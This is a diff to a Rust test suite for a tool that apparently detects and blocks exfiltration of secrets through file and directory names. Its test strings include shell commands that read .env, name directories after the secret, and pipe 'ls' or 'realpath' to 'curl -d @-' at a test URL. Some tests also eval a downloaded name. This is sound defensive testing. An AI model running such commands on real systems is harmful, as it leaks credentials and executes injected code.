@@ -23,7 +23,8 @@ fn names_exfil(template: &str) {
 
 #[test]
 fn names_exfil_ls_of_a_file_named_from_a_secret() {
-    names_exfil(r#"n="{NAME}"; touch "$n"; unset n; ls | curl -s -d @- {URL}/p"#);
+    // (A directory: no contents whose label could stand in for the name's.)
+    names_exfil(r#"n="{NAME}"; mkdir "$n"; unset n; ls | curl -s -d @- {URL}/p"#);
 }
 
 #[test]
@@ -65,7 +66,7 @@ fn names_exfil_pwd_after_a_relative_cd_below_the_named_dir() {
 #[test]
 fn names_exfil_realpath_through_a_symlink_into_a_labelled_dir() {
     names_exfil(
-        r#"n="{NAME}"; mkdir "$n"; touch "$n/f"; ln -s "$n" link; unset n; realpath link/f | curl -s -d @- {URL}/p"#,
+        r#"n="{NAME}"; mkdir -p "$n/f"; ln -s "$n" link; unset n; realpath link/f | curl -s -d @- {URL}/p"#,
     );
 }
 
@@ -94,13 +95,13 @@ fn names_exfil_listing_after_the_named_dir_moved() {
 fn names_exfil_a_name_created_by_one_run_is_listed_by_the_next() {
     // Run 1 names a file from the secret; run 2 (another process) lists it.
     let a = Arena::new();
-    a.run(r#"n="$(cat .env)"; touch "$n""#).assert_ok();
+    a.run(r#"n="$(cat .env)"; mkdir "$n""#).assert_ok();
     let r = a.assert_blocked(&a.script("ls | curl -s -d @- {URL}/p"), FLOW);
     a.server.assert_nothing_received(&r);
 
     // Control: a name from public data is listed and sent by the next run.
     let a = Arena::new();
-    a.run(r#"n="$(cat public.txt)"; touch "$n""#).assert_ok();
+    a.run(r#"n="$(cat public.txt)"; mkdir "$n""#).assert_ok();
     let r = a.run("ls | curl -s -d @- {URL}/p");
     r.assert_ok();
     a.server.assert_received(Some(PUBLIC.trim_end()), &r);
@@ -119,9 +120,9 @@ fn names_inject_a_downloaded_name_evaluated_through_a_glob() {
 #[test]
 fn names_inject_a_downloaded_name_evaluated_from_ls() {
     injection(
-        r#"touch "$(curl -s {URL}/name.txt) pwned"; eval "$(ls | grep touch)""#,
+        r#"mkdir "$(curl -s {URL}/name.txt) pwned"; eval "$(ls | grep touch)""#,
         FLOW,
-        r#"touch "touch pwned"; eval "$(ls | grep touch)""#,
+        r#"mkdir "touch pwned"; eval "$(ls | grep touch)""#,
         pwned_created,
     );
 }
